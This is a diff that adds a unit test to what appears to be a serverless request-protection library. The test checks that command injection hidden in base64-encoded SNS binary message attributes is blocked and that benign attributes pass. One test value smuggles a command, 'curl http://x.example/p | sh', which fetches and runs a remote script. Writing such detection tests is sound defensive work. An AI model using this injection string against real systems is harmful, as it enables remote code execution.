@@ -577,3 +577,17 @@ t.test('a body declared in UTF-7 or UTF-16 is also read in that charset (as Expr
   const ok: Any = await wrapped(ev.apiGatewayV2({ method: 'POST', body: '{"q":"1 +- 1"}', headers: { 'content-type': 'application/json; charset=utf-7' } }) as Any, ctx());
   t.equal(ok.statusCode, 200);
 });
+
+t.test('SNS: Binary message attributes are read decoded', async (t) => {
+  const { lines, log } = logs();
+  const { calls, handler } = recorder();
+  const wrapped = protect(handler, { log });
+  const bin = (s: string) => ({ Type: 'Binary', Value: Buffer.from(s).toString('base64') });
+  const attack = ev.sns([{ message: 'order shipped', messageAttributes: { meta: bin('a.txt; curl http://x.example/p | sh') as Any } }]);
+  const err = await wrapped(attack as Any, ctx()).catch((e: unknown) => e);
+  t.type(err, RequestBlockedError);
+  t.match(lines.at(-1)?.where, /^records\[0\]\.Sns\.MessageAttributes\.meta\.Value/);
+  const ok = ev.sns([{ message: 'order shipped', messageAttributes: { meta: bin('{"carrier":"UPS","eta":"2024-05-02"}') as Any, png: bin('\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR') as Any } }]);
+  await wrapped(ok as Any, ctx());
+  t.equal(calls.length, 1, 'benign attributes pass');
+});
